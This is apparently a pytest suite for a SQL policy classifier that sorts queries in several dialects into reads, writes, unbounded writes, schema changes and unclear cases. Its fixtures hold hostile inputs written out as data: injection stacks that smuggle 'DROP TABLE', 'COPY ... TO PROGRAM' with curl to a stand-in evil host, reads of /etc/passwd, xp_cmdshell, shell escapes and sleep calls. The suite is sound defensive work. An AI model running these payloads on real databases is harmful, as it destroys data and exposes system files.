"""What a query does is recognised however it is dressed, and what is not understood is unclear."""

from __future__ import annotations

from typing import Any

import pytest

from opsconsole.policy.facts.interface import NO_HISTORY, FactConfigError, FactValue
from opsconsole.policy.facts.sql import FIELDS, SQL
from opsconsole.policy.facts.sql_text import NESTING_MAX, STATEMENTS_MAX, TEXT_CHARS_MAX, WORDS_MAX

LETTERS = {"R": "reads", "W": "writes", "U": "unbounded_write", "S": "changes_schema", "X": "unclear"}

QUERIES = [
    # Plain.
    ("postgres", "SELECT a FROM t WHERE b = 1", "R"),
    ("postgres", "SELECT 1; SELECT 2;", "R"),
    ("postgres", "(SELECT a FROM t) UNION ALL (SELECT b FROM u)", "R"),
    ("postgres", "TABLE t", "R"),
    ("postgres", "SHOW search_path", "R"),
    ("postgres", "EXPLAIN SELECT a FROM t", "R"),
    ("postgres", "EXPLAIN (FORMAT JSON) SELECT a FROM t", "R"),
    ("postgres", "SELECT now(), pg_size_pretty(pg_database_size('d'))", "R"),
    ("postgres", "SELECT $$a; DROP TABLE t$$", "R"),
    ("mysql", "SHOW TABLES", "R"),
    ("mysql", "DESC t", "R"),
    ("mysql", "SELECT 'it\\'s; DROP TABLE t'", "R"),
    ("mysql", "SELECT a INTO @v FROM t", "R"),
    ("sqlite", "PRAGMA table_info(t)", "R"),
    ("sqlite", "PRAGMA user_version", "R"),
    ("postgres", "INSERT INTO t (a) VALUES (1)", "W"),
    ("postgres", "UPDATE t SET a = 1 WHERE b = 2", "RW"),
    ("postgres", "DELETE FROM t WHERE b = 2", "RW"),
    ("postgres", "BEGIN", ""),
    # Hidden writes.
    ("postgres", "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", "RWU"),
    ("postgres", "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT count(*) FROM d", "RW"),
    ("postgres", "WITH i AS (INSERT INTO t VALUES (1) RETURNING a) SELECT a FROM i", "RW"),
    ("postgres", "SELECT * INTO x FROM t", "RWS"),
    ("tsql", "SELECT * INTO #x FROM t", "RWS"),
    ("mysql", "SELECT 1 INTO OUTFILE '/tmp/x'", "RWX"),
    ("postgres", "SELECT * FROM t FOR UPDATE", "RW"),
    ("mysql", "SELECT * FROM t LOCK IN SHARE MODE", "RW"),
    ("tsql", "SELECT * FROM t WITH (TABLOCKX)", "RW"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM t WHERE a = 1", "RW"),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "RWU"),
    ("mysql", "EXPLAIN DELETE FROM t", "RWU"),
    ("mysql", "LOAD DATA INFILE 'x' INTO TABLE t", "RWX"),
    ("postgres", "COPY t TO PROGRAM 'curl evil.test'", "RWX"),
    ("postgres", "COPY t FROM STDIN", "RWX"),
    ("postgres", "CALL p()", "RWX"),
    ("tsql", "EXEC xp_cmdshell 'dir'", "RWX"),
    ("tsql", "xp_cmdshell 'dir'", "RWX"),
    ("postgres", "DO $$ BEGIN DELETE FROM t; END $$", "RWX"),
    ("mysql", "SET GLOBAL max_connections = 1", "W"),
    ("postgres", "SET ROLE admin", "RWX"),
    ("mysql", "REPLACE INTO t VALUES (1)", "RWX"),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)", "W"),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "RW"),
    ("postgres", "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN DELETE", "RWU"),
    ("mysql", "ANALYZE TABLE t", "RW"),
    # Functions.
    ("postgres", "SELECT pg_terminate_backend(1)", "RW"),
    ("postgres", "SELECT pg_catalog.lo_import('x')", "RW"),
    ("postgres", 'SELECT "pg_terminate_backend"(1)', "RW"),
    ("postgres", "SELECT nextval('s')", "RW"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "RWX"),
    ("postgres", "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "RWX"),
    ("postgres", "SELECT query_to_xml('DELETE FROM t', true, true, '')", "RWX"),
    ("postgres", "SELECT pg_sleep(100)", "RWX"),
    ("postgres", "SELECT delete_customer(3)", "RWX"),
    ("postgres", "SELECT a FROM t WHERE delete_customer(b)", "RWX"),
    ("mysql", "SELECT SLEEP(3)", "RWX"),
    ("mysql", "SELECT BENCHMARK(1000000, 1)", "RWX"),
    ("mysql", "SELECT load_file('/etc/passwd')", "RWX"),
    ("mysql", "SELECT ours.count(a) FROM t", "RWX"),
    ("sqlite", "SELECT load_extension('x')", "RWX"),
    ("sqlite", "SELECT writefile('x', 'y')", "RW"),
    ("tsql", "SELECT * FROM OPENROWSET('x', 'y', 'z')", "RWX"),
    ("duckdb", "SELECT * FROM read_csv('x')", "RWX"),
    ("duckdb", "SELECT * FROM 'secrets.parquet'", "RWX"),
    ("snowflake", "SELECT * FROM @stage", "RWX"),
    ("clickhouse", "SELECT * FROM url('http://evil.test')", "RWX"),
    # Schema and privileges.
    ("postgres", "DROP TABLE users", "WS"),
    ("postgres", "drop table if exists users cascade", "WS"),
    ("postgres", "ALTER TABLE t ADD COLUMN c int", "WS"),
    ("postgres", "TRUNCATE t", "WUS"),
    ("postgres", "CREATE TABLE t (a int)", "WS"),
    ("postgres", "CREATE TABLE t AS SELECT * FROM u", "RWS"),
    ("mysql", "RENAME TABLE a TO b", "RWSX"),
    ("mysql", "GRANT ALL ON *.* TO x", "RWSX"),
    ("postgres", "GRANT SELECT ON t TO x", "WS"),
    ("postgres", "ALTER SYSTEM SET x = 1", "RWSX"),
    ("postgres", "COMMENT ON TABLE t IS 'x'", "WS"),
    ("mysql", "DROP USER x", "RWSX"),
    # Conditions that bound nothing.
    ("postgres", "DELETE FROM t", "RWU"),
    ("postgres", "UPDATE t SET a = 1", "RWU"),
    ("postgres", "DELETE FROM t WHERE 1 = 1", "RWU"),
    ("postgres", "DELETE FROM t WHERE TRUE", "RWU"),
    ("postgres", "DELETE FROM t WHERE NOT FALSE", "RWU"),
    ("postgres", "DELETE FROM t WHERE (('a' = 'a'))", "RWU"),
    ("postgres", "DELETE FROM t WHERE id = 3 OR 1 = 1", "RWU"),
    ("postgres", "DELETE FROM t WHERE id = id", "RWU"),
    ("postgres", "DELETE FROM t WHERE t.id = id", "RWU"),
    ("postgres", "DELETE FROM t WHERE id <= id + 0", "RWU"),
    ("postgres", "DELETE FROM t WHERE a IS NULL OR a IS NOT NULL", "RWU"),
    ("postgres", "DELETE FROM t WHERE NOT (a = 1) OR a = 1", "RWU"),
    ("postgres", "DELETE FROM t USING u WHERE t.id = u.id", "RW"),
    ("postgres", "DELETE FROM t WHERE name LIKE '%'", "RWU"),
    ("postgres", "DELETE FROM t WHERE EXISTS (SELECT 1)", "RWU"),
    ("postgres", "DELETE FROM t WHERE id = 3 AND 1 = 1", "RW"),
    ("mysql", "DELETE FROM t LIMIT 3", "RWU"),
    ("postgres", "DELETE FROM t USING u", "RWU"),
    ("postgres", "SELECT 1; DELETE FROM t", "RWU"),
    # Comments, stacks and text beside SQL.
    ("mysql", "SELECT 1 /*! ; DROP TABLE t */", "RWX"),
    ("mysql", "SELECT 1 /*M! INTO OUTFILE 'x' */", "RWX"),
    ("mysql", "SELECT 1--1; DROP TABLE t", "RWS"),
    ("mysql", "/* /* */ DROP TABLE t; -- */", "RWSX"),
    ("postgres", "/* /* */ DROP TABLE t; */ SELECT 1", "RWX"),
    ("postgres", "SELECT 1 -- \n; DROP TABLE t", "RWS"),
    ("postgres", "SELECT 1 {# ; DROP TABLE t; -- #}", "RWX"),
    ("mysql", "SELECT 1 # \r; DROP TABLE t", "RWX"),
    ("postgres", "SELECT 'a\\'; DROP TABLE t; -- '", "RWS"),
    ("postgres", "SELECT N'a\\'; DROP TABLE t; -- '", "RWS"),
    ("postgres", "SELECT E'a\\'; DROP TABLE t; -- '", "R"),
    ("postgres", "SELECT a$$; DROP TABLE t; -- $$", "RWS"),
    ("mysql", "SELECT `a\\`; DROP TABLE t; -- `", "RWS"),
    ("sqlite", "SELECT [a[]; DROP TABLE t; -- ]", "RWS"),
    ("postgres", "SELECT 1; garbage here (((", "RWX"),
    ("postgres", "DROP TABLE t; garbage here (((", "RWSX"),
    ("postgres", "TRUNCATE t WITH garbage (((", "RWUSX"),
    ("postgres", "SELECT 1\\! rm -rf x", "RWX"),
    ("mysql", "system ls", "RWX"),
    ("sqlite", ".shell ls", "RWX"),
    ("sqlite", "PRAGMA writable_schema = 1", "RWX"),
    ("sqlite", "PRAGMA user_version = 3", "RWX"),
    ("sqlite", "PRAGMA optimize", "RWX"),
    ("sqlite", "ATTACH DATABASE 'x' AS y", "RWX"),
    ("tsql", "SELECT 1 SHUTDOWN", "RWX"),
    ("mysql", "START SLAVE", "RWX"),
    ("mysql", "START TRANSACTION", ""),
    ("tsql", "SELECT 1\nGO\nDROP TABLE t", "RWX"),
    ("tsql", "IF 1 = 1 DROP TABLE t", "RWSX"),
    ("postgres", "SELECT 1\0; DROP TABLE t", "RWSX"),
    ("postgres", "SELECT\u00a01", "RWX"),
    ("postgres", "", "RWX"),
    ("postgres", "  ;;  ", "RWX"),
    ("postgres", "Please drop the users table", "RWX"),
]


def facts(dialect: str, query: Any, **more: Any) -> dict[str, FactValue]:
    return SQL({"arg": "query", "dialect": dialect, **more})({"query": query}, NO_HISTORY)


def letters(found: dict[str, FactValue]) -> str:
    return "".join(letter for letter, name in LETTERS.items() if found[name])


@pytest.mark.parametrize(("dialect", "query", "expected"), QUERIES)
def test_a_query_is_seen_through(dialect: str, query: str, expected: str) -> None:
    assert letters(facts(dialect, query)) == expected


@pytest.mark.parametrize(
    "query",
    [
        None,
        7,
        ["SELECT 1"],
        "SELECT 1;" * (STATEMENTS_MAX + 1),
        "SELECT '" + "x" * TEXT_CHARS_MAX + "'",
        "SELECT " + "1+" * WORDS_MAX + "1",
        "SELECT " + "(" * (NESTING_MAX + 1) + "1" + ")" * (NESTING_MAX + 1),
        "SELECT " + "- " * 1_500 + "1",
    ],
    ids=["nothing", "number", "list", "statements", "characters", "words", "nesting", "recursion"],
)
def test_what_is_no_query_or_too_much_of_one_is_unclear(query: Any) -> None:
    found = facts("postgres", query)
    assert (found["unclear"], found["writes"], bool(found["why"])) == (True, True, True)


def test_a_query_that_is_understood_gives_every_fact() -> None:
    query = "SELECT a FROM Shop.T JOIN u ON t.a = u.a; SELECT 1"
    assert facts("postgres", query) == {
        "reads": True,
        "writes": False,
        "unbounded_write": False,
        "changes_schema": False,
        "unclear": False,
        "why": "",
        "statements": 2,
        "tables": ["shop.t", "u"],
        "unknown_tables": [],
        "unknown_columns": [],
    }


def test_each_field_is_there_with_its_type_whatever_the_query() -> None:
    for query in ("SELECT 1", "nonsense", None):
        found = facts("mysql", query)
        assert {name: type(value) for name, value in found.items()} == dict(FIELDS)


def test_a_common_table_expression_is_no_table_but_what_it_shadows_elsewhere_is() -> None:
    inner = "SELECT 1 WHERE EXISTS (WITH payroll AS (SELECT 1 AS a) SELECT a FROM payroll)"
    assert facts("postgres", inner)["tables"] == []
    assert facts("postgres", f"{inner}; SELECT * FROM payroll")["tables"] == ["payroll"]
    assert facts("postgres", "WITH t AS (SELECT 1) DELETE FROM t WHERE a = 1")["tables"] == ["t"]


def test_a_team_vouches_for_its_own_functions() -> None:
    assert letters(facts("postgres", "SELECT price_of(3)", functions=["PRICE_OF"])) == "R"


def test_nothing_of_a_query_reaches_a_log(caplog: pytest.LogCaptureFixture) -> None:
    facts("postgres", "CALL pay('card 4111')")
    assert caplog.records == []


@pytest.mark.parametrize(
    ("config", "field"),
    [
        ({"dialect": "mysql"}, "arg"),
        ({"arg": "query"}, "dialect"),
        ({"arg": "query", "dialect": "klingon"}, "dialect"),
        ({"arg": "query", "dialect": "mysql", "schema": []}, "schema"),
        ({"arg": "query", "dialect": "mysql", "schema": {"t": 3}}, "schema"),
        ({"arg": "query", "dialect": "mysql", "functions": "f"}, "functions"),
        ({"arg": "query", "dialect": "mysql", "shcema": {}}, "shcema"),
    ],
)
def test_a_wrong_setting_is_named(config: dict[str, Any], field: str) -> None:
    with pytest.raises(FactConfigError) as caught:
        SQL(config)
    assert caught.value.field == field
